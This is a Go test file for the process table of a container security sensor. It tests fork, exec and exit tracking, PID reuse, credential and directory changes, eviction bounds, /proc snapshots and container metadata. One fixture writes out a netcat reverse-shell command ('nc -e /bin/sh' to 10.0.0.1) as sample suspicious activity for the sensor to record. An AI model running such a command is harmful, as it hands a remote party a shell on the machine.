package process

import (
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kubeguardian/kubeguardian/sensor/container"
	"github.com/kubeguardian/kubeguardian/sensor/record"
	"github.com/kubeguardian/kubeguardian/sensor/syscall"
)

const containerID = "3f2a9c01d7be4455aa66bb77cc88dd99ee00ff112233445566778899aabbccdd"

// A life is a process in a test: its identity as the kernel has it.
type life struct {
	key    record.Key
	parent record.Key
	comm   string
	uid    uint32
	cgroup uint64
}

func typeOf(t testing.TB, name string) record.Type {
	t.Helper()
	typ, ok := record.TypeOf(name)
	if !ok {
		t.Fatalf("no type %s", name)
	}
	return typ
}

// make returns a record of a process. Values are by name of the parameter: a
// number, or a text.
func (l life) make(t testing.TB, typ string, at uint64, values map[string]any) *record.Record {
	t.Helper()
	r := &record.Record{Header: record.Header{
		Type: typeOf(t, typ), Time: at, Process: l.key, TID: l.key.TGID, Parent: l.parent, VPID: l.key.TGID, VTID: l.key.TGID,
		PGID: l.key.TGID, VPGID: l.key.TGID, SID: 1, UID: l.uid, LoginUID: unset, Cgroup: l.cgroup, HasResult: true,
	}}
	copy(r.Comm[:], l.comm)
	for name, value := range values {
		var v record.Value
		switch value := value.(type) {
		case int:
			v = record.IntValue(int64(value))
		case string:
			v = record.BytesValue([]byte(value))
		case record.Value:
			v = value
		}
		if name == "result" {
			r.Result, _ = v.Int()
			continue
		}
		if err := r.SetParam(r.Type.Index(name), v); err != nil {
			t.Fatal(err)
		}
	}
	return r
}

func extra(t testing.TB, r *record.Record, tag record.Tag, v record.Value) *record.Record {
	t.Helper()
	if err := r.SetExtra(tag, v); err != nil {
		t.Fatal(err)
	}
	return r
}

// alone returns a table that no process of this machine gets into.
func alone(t testing.TB, o Options) *Table {
	t.Helper()
	o.Proc = t.TempDir()
	return New(o)
}

const second1 = uint64(1_000_000_000)

func execOf(t testing.TB, l life, at uint64, argv ...string) *record.Record {
	return l.make(t, "execve", at, map[string]any{
		"exe": argv[0], "args": strings.Join(argv[1:], "\x00") + strings.Repeat("\x00", min(1, len(argv)-1)), "cwd": "/srv",
		"trusted_exepath": "/usr/bin/" + argv[0], "flags": record.ExeUpper, "exe_ino": 77, "cap_effective": 5, "cap_permitted": 7, "cap_inheritable": 0,
		"cgroups": "=/system.slice/docker-" + containerID + ".scope\x00",
	})
}

func TestForkExecExit(t *testing.T) {
	table := alone(t, Options{})
	reader := table.Reader()
	shell := life{key: record.Key{TGID: 10, Start: 10 * second1}, parent: record.Key{TGID: 1, Start: second1}, comm: "bash", cgroup: 9}
	reader.Read(execOf(t, shell, 11*second1, "bash", "-i"))
	child := life{key: record.Key{TGID: 11, Start: 12 * second1}, parent: shell.key, comm: "bash", cgroup: 9}
	e := reader.Read(child.make(t, "clone", 12*second1, map[string]any{"exe": "bash", "args": "-i\x00", "cwd": "/srv", "cgroups": "=/x\x00"}))
	if p := e.Process; p.PID != 11 || p.CommandLine() != "bash -i" || p.Ancestor(1).PID != 10 || p.Exe == nil || !p.Exe.Upper || p.Cwd != "/srv" {
		t.Errorf("after fork: %+v", p)
	}
	child.comm = "nc"
	e = reader.Read(execOf(t, child, 13*second1, "nc", "-e", "/bin/sh", "10.0.0.1"))
	p := e.Process
	if p.CommandLine() != "nc -e /bin/sh 10.0.0.1" || p.ExePath != "/usr/bin/nc" || p.Exe.Ino != 77 || *p.Caps != (syscall.Capabilities{Permitted: 7, Effective: 5}) {
		t.Errorf("after exec: %+v", p)
	}
	if have := p.Ancestor(1).CommandLine(); have != "bash -i" {
		t.Errorf("parent %q", have)
	}
	if c := e.Container; c == nil || c.ID != containerID || c.Known || c.Type != container.Docker {
		t.Errorf("container %+v", c)
	}
	// The shell ends before its child, which keeps it as its parent although
	// the kernel gives it another.
	reader.Read(shell.make(t, "procexit", 14*second1, nil))
	child.parent = record.Key{TGID: 1, Start: second1}
	e = reader.Read(child.make(t, "connect", 60*second1, nil))
	if have := e.Process.Ancestor(1).CommandLine(); have != "bash -i" {
		t.Errorf("parent after its end: %q", have)
	}
	if table.Process(10) != nil {
		t.Error("a process that has ended has its id")
	}
	if s := table.Stats(); s.Known != 2 || s.Running != 2 { // the child and process 1
		t.Errorf("stats %+v", s)
	}
}

func TestIDIsUsedAgain(t *testing.T) {
	table := alone(t, Options{})
	reader := table.Reader()
	first := life{key: record.Key{TGID: 10, Start: 10 * second1}, comm: "first"}
	reader.Read(execOf(t, first, 11*second1, "first"))
	again := life{key: record.Key{TGID: 10, Start: 20 * second1}, comm: "again"}
	e := reader.Read(again.make(t, "connect", 21*second1, nil))
	if e.Process.Name != "again" || e.Process.Argv != nil || e.Process.Exe != nil {
		t.Errorf("the process has what was of another one: %+v", e.Process)
	}
	if p := table.Process(10); p.Name != "again" {
		t.Errorf("id 10 is %q", p.Name)
	}
	// A record of the first one that comes late is still of the first one.
	if e := reader.Read(first.make(t, "connect", 12*second1, nil)); e.Process.Name != "first" || e.Process.Argv[0] != "first" {
		t.Errorf("have %+v", e.Process)
	}
	if p := table.Process(10); p.Name != "again" {
		t.Errorf("after a late record id 10 is %q", p.Name)
	}
	if s := table.Stats(); s.LostExit != 1 {
		t.Errorf("stats %+v", s)
	}
}

func TestChangesThatHeadersShow(t *testing.T) {
	table := alone(t, Options{})
	reader := table.Reader()
	l := life{key: record.Key{TGID: 10, Start: 10 * second1}, comm: "su"}
	before := reader.Read(execOf(t, l, 11*second1, "su")).Process
	same := reader.Read(l.make(t, "connect", 12*second1, nil)).Process
	if same != before {
		t.Error("a new value without a change")
	}
	l.uid, l.comm = 33, "worker"
	after := reader.Read(l.make(t, "setuid", 13*second1, map[string]any{"uid": 33, "res": 0})).Process
	if after.User.UID != 33 || after.Name != "worker" || after.CommandLine() != "worker" || after.Caps != nil {
		t.Errorf("after: %+v", after)
	}
	if before.User.UID != 0 || before.Name != "su" || before.Caps == nil {
		t.Errorf("a value that was published has changed: %+v", before)
	}
	after = reader.Read(l.make(t, "chdir", 14*second1, map[string]any{"path": "/var/../tmp", "res": 0})).Process
	if after.Cwd != "/tmp" {
		t.Errorf("directory %q", after.Cwd)
	}
	r := extra(t, l.make(t, "chdir", 15*second1, map[string]any{"path": "sub", "res": 0}), record.Base, record.BytesValue([]byte("/tmp")))
	if after = reader.Read(r).Process; after.Cwd != "/tmp/sub" {
		t.Errorf("directory %q", after.Cwd)
	}
	r = l.make(t, "chdir", 16*second1, map[string]any{"path": "/nowhere", "res": -2, "result": -2})
	if after = reader.Read(r).Process; after.Cwd != "/tmp/sub" {
		t.Errorf("directory after a failure %q", after.Cwd)
	}
	r = l.make(t, "connect", 17*second1, nil)
	r.TID, r.VTID = 99, 99
	copy(r.Comm[:], "thread\x00\x00\x00\x00")
	if e := reader.Read(r); e.Comm != "thread" || e.Process.Name != "worker" || e.TID != 99 {
		t.Errorf("thread %q of %q", e.Comm, e.Process.Name)
	}
}

// A model is the naive form of a table: it never forgets.
type model struct {
	names   map[record.Key]string
	parents map[record.Key]record.Key
}

func (m model) line(k record.Key) []string {
	var out []string
	for k.TGID != 0 && len(out) < cutDepth {
		out = append(out, m.names[k])
		k = m.parents[k]
	}
	return out
}

func lineOf(p *syscall.Process) []string {
	var out []string
	for ; p != nil && len(out) < cutDepth; p = p.Ancestor(1) {
		out = append(out, p.Name)
	}
	return out
}

// history makes records of processes that fork, exec and end at random, with few
// ids that are used again, and hands each to see with the model as it is after.
func history(t *testing.T, seed uint64, steps int, see func(*record.Record, model)) {
	random := rand.New(rand.NewPCG(seed, 1))
	m := model{map[record.Key]string{}, map[record.Key]record.Key{}}
	init := life{key: record.Key{TGID: 1, Start: nanosPerTick}, comm: "init"}
	living := []*life{&init}
	m.names[init.key] = "init"
	see(execOf(t, init, second1, "init"), m)
	now := second1
	for i := range steps {
		now += uint64(random.IntN(50)) * nanosPerTick
		l := living[random.IntN(len(living))]
		switch n := random.IntN(10); {
		case n < 4 && len(living) < 40:
			pid := uint32(2 + random.IntN(60))
			if slices.ContainsFunc(living, func(o *life) bool { return o.key.TGID == pid }) {
				continue
			}
			now += nanosPerTick
			child := &life{key: record.Key{TGID: pid, Start: now}, parent: l.key, comm: l.comm}
			living = append(living, child)
			m.names[child.key], m.parents[child.key] = l.comm, l.key
			see(child.make(t, "clone", now, map[string]any{"exe": l.comm, "args": ""}), m)
		case n < 7:
			l.comm = fmt.Sprintf("prog%d", i)
			m.names[l.key] = l.comm
			see(execOf(t, *l, now, l.comm, "x"), m)
		case n < 9:
			see(l.make(t, "connect", now, nil), m)
		case l != living[0]:
			see(l.make(t, "procexit", now, nil), m)
			living = slices.DeleteFunc(living, func(o *life) bool { return o == l })
			for _, o := range living {
				if o.parent == l.key {
					o.parent = living[0].key
				}
			}
		}
	}
}

// TestAgainstModel: after each record of any history the process and all its
// ancestors are what they are.
func TestAgainstModel(t *testing.T) {
	for seed := range uint64(30) {
		table := alone(t, Options{})
		reader := table.Reader()
		n := 0
		history(t, seed, 1500, func(r *record.Record, m model) {
			n++
			if have, want := lineOf(reader.Read(r).Process), m.line(r.Process); !reflect.DeepEqual(have, want) {
				t.Fatalf("seed %d, record %d (%s): have %v, want %v", seed, n, r.Type, have, want)
			}
		})
		if s := table.Stats(); s.LostExit != 0 || s.Evicted != 0 {
			t.Errorf("seed %d: stats %+v", seed, s)
		}
	}
}

// TestSeveralReaders: processes are spread over buffers that are read one after
// the other in any order. Once all is read, what is known is the same.
func TestSeveralReaders(t *testing.T) {
	for seed := range uint64(10) {
		const buffers = 4
		var waiting [buffers][]*record.Record
		var last model
		history(t, seed, 1000, func(r *record.Record, m model) {
			b := r.Process.TGID % buffers
			waiting[b] = append(waiting[b], r)
			last = m
		})
		table := alone(t, Options{Grace: time.Hour})
		random := rand.New(rand.NewPCG(seed, 2))
		var readers [buffers]*Reader
		for b := range readers {
			readers[b] = table.Reader()
		}
		for left := true; left; {
			left = false
			for b := range waiting {
				n := min(random.IntN(20), len(waiting[b]))
				for _, r := range waiting[b][:n] {
					readers[b].Read(r)
				}
				waiting[b] = waiting[b][n:]
				left = left || len(waiting[b]) > 0
			}
		}
		for _, e := range table.known {
			p := e.handle.Process()
			k := record.Key{TGID: uint32(p.PID), Start: p.Start}
			if have, want := lineOf(p), last.line(k); !reflect.DeepEqual(have, want) {
				t.Fatalf("seed %d: process %d: have %v, want %v", seed, p.PID, have, want)
			}
		}
	}
}

// TestSoak: a million processes that begin, run a program and end leave nothing
// behind, a line of ancestors that never ends included.
func TestSoak(t *testing.T) {
	n := 1_000_000
	if testing.Short() {
		n = 50_000
	}
	table := alone(t, Options{Max: 4096, Grace: time.Second})
	reader := table.Reader()
	parent := record.Key{TGID: 1, Start: nanosPerTick}
	fork, run, end := life{}.make(t, "clone", 0, map[string]any{"exe": "sh", "args": ""}), execOf(t, life{comm: "true"}, 0, "true"), life{}.make(t, "procexit", 0, nil)
	most, depth := 0, 0
	for i := range n {
		at := second1 + uint64(i)*nanosPerTick
		k := record.Key{TGID: 2 + uint32(i)%30000, Start: at}
		for j, r := range []*record.Record{fork, run, end} {
			r.Process, r.TID, r.Parent, r.Time = k, k.TGID, parent, at+uint64(j)
			p := reader.Read(r).Process
			if i%1000 == 0 {
				length := 0
				for ; p != nil; p = p.Ancestor(1) {
					length++
				}
				depth = max(depth, length)
			}
		}
		parent = k // each is started by the one before, which ends
		if i%1000 == 0 {
			most = max(most, table.Stats().Known)
		}
	}
	s := table.Stats()
	if most > 110 || s.Known > 110 || len(table.ended) > 110 || len(table.roles) > 0 || s.Groups > 1 {
		t.Errorf("at most %d processes, in the end %+v and %d that have ended", most, s, len(table.ended))
	}
	if depth < cutDepth || depth > maxDepth+2 || s.Cut == 0 {
		t.Errorf("%d ancestors, cut %d times", depth, s.Cut)
	}
}

// TestTooManyProcesses holds the table to its bound, and says what it costs.
func TestTooManyProcesses(t *testing.T) {
	table := alone(t, Options{Max: 100})
	reader := table.Reader()
	for i := range uint32(150) {
		l := life{key: record.Key{TGID: i + 2, Start: second1}, comm: "sh"}
		reader.Read(execOf(t, l, 2*second1, "sh"))
	}
	if s := table.Stats(); s.Known != 100 || s.Running != 100 || s.Evicted != 50 {
		t.Errorf("stats %+v", s)
	}
}

func TestClockThatIsSet(t *testing.T) {
	clock := NewClock()
	table := alone(t, Options{Clock: clock})
	reader := table.Reader()
	l := life{key: record.Key{TGID: 10, Start: 10 * second1}, comm: "sh"}
	at := clock.Boot()
	wall := reader.Read(l.make(t, "connect", at, nil)).Time.Time()
	if off := time.Since(wall).Abs(); off > time.Minute {
		t.Errorf("off by %s", off)
	}
	clock.offset.Add(int64(time.Hour)) // as if the node's clock had been wrong by an hour
	clock.Set()
	if again := reader.Read(l.make(t, "connect", at, nil)).Time.Time(); again.Sub(wall).Abs() > time.Minute {
		t.Errorf("after the clock was measured anew: %s, want %s", again, wall)
	}
}

// TestSnapshot compares the table with a process of this machine.
func TestSnapshot(t *testing.T) {
	cmd := exec.Command("sleep", "60")
	cmd.Dir, cmd.Env = "/tmp", []string{"COLOUR=red"}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
	})
	table := New(Options{Env: true, Users: container.NewUsers("/proc", "/")})
	if err := table.Snapshot(); err != nil {
		t.Fatal(err)
	}
	p := table.Process(uint32(cmd.Process.Pid))
	if p == nil {
		t.Fatal("not known")
	}
	path, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", cmd.Process.Pid))
	if err != nil {
		t.Fatal(err)
	}
	if p.Name != "sleep" || p.CommandLine() != "sleep 60" || p.Cwd != "/tmp" || p.ExePath != path || !slices.Contains(p.Env, "COLOUR=red") || p.Exe.Ino == 0 || p.Exe.Changed == 0 {
		t.Errorf("have %+v", p)
	}
	if p.User.UID != uint32(os.Geteuid()) || p.VPID == 0 || p.Caps == nil || len(p.Cgroups) == 0 {
		t.Errorf("have %+v", p)
	}
	if age := time.Since(p.Started.Time()); age < -time.Second || age > 10*time.Minute {
		t.Errorf("started %s ago", age)
	}
	if parent := p.Ancestor(1); parent == nil || parent.PID != int32(os.Getpid()) || !strings.HasPrefix(parent.ExePath, "/") {
		t.Errorf("parent %+v", parent)
	}
	// Its records go on from there: they know the start exactly, /proc does not.
	known := table.Stats().Known
	l := life{key: record.Key{TGID: uint32(p.PID), Start: p.Start + 1234}, comm: "sleep"}
	e := table.Reader().Read(l.make(t, "connect", table.clock.Boot(), nil))
	if e.Process.CommandLine() != "sleep 60" || table.Stats().Known != known {
		t.Errorf("a second process: %+v", e.Process)
	}
	// Its end is noticed even when the record is lost.
	cmd.Process.Kill()
	cmd.Wait()
	table.current[uint32(p.PID)].ticks = 0 // as if it had begun long ago
	if err := table.Sweep(); err != nil {
		t.Fatal(err)
	}
	if table.Process(uint32(p.PID)) != nil {
		t.Error("known after its end")
	}
}

// TestLostRecords: what a process is can be read from /proc when its records
// were lost, once.
func TestLostRecords(t *testing.T) {
	table := New(Options{})
	st, err := parseStat(readText(t, "/proc/self/stat"))
	if err != nil {
		t.Fatal(err)
	}
	l := life{key: record.Key{TGID: uint32(os.Getpid()), Start: st.ticks*nanosPerTick + 5}, comm: st.name}
	e := table.Reader().Read(l.make(t, "connect", table.clock.Boot(), nil))
	if have, want := strings.Join(e.Process.Argv, " "), strings.Join(os.Args, " "); have != want {
		t.Errorf("have %q, want %q", have, want)
	}
	if e.Process.Start != l.key.Start || e.Container == nil || !e.Container.OnHost() {
		t.Errorf("have %+v, container %+v", e.Process, e.Container)
	}
	if s := table.Stats(); s.Unknown == 0 || s.Read == 0 {
		t.Errorf("stats %+v", s)
	}
	// Another process with this id is another process.
	l.key.Start += 100 * second1
	if e := table.Reader().Read(l.make(t, "connect", table.clock.Boot(), nil)); e.Process.Argv != nil {
		t.Errorf("have %+v", e.Process)
	}
}

func readText(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func TestContainerThatBecomesKnown(t *testing.T) {
	var told *syscall.Details
	table := alone(t, Options{Containers: func(id string) *syscall.Details {
		if id != containerID {
			t.Errorf("asked for %q", id)
		}
		return told
	}})
	reader := table.Reader()
	l := life{key: record.Key{TGID: 10, Start: 10 * second1}, comm: "sh", cgroup: 5}
	first := reader.Read(execOf(t, l, 11*second1, "sh")).Container
	told = &syscall.Details{Name: "web", Type: "containerd", Pod: &syscall.Pod{Name: "cart-1"}}
	second := reader.Read(l.make(t, "connect", 12*second1, nil)).Container
	if first.Known || first.Name != "" || !second.Known || second.Name != "web" || second.Pod.Name != "cart-1" || second.Started != first.Started || first.Started == 0 {
		t.Errorf("first %+v, then %+v", first, second)
	}
	if s := table.Stats(); s.Late != 1 {
		t.Errorf("stats %+v", s)
	}
}
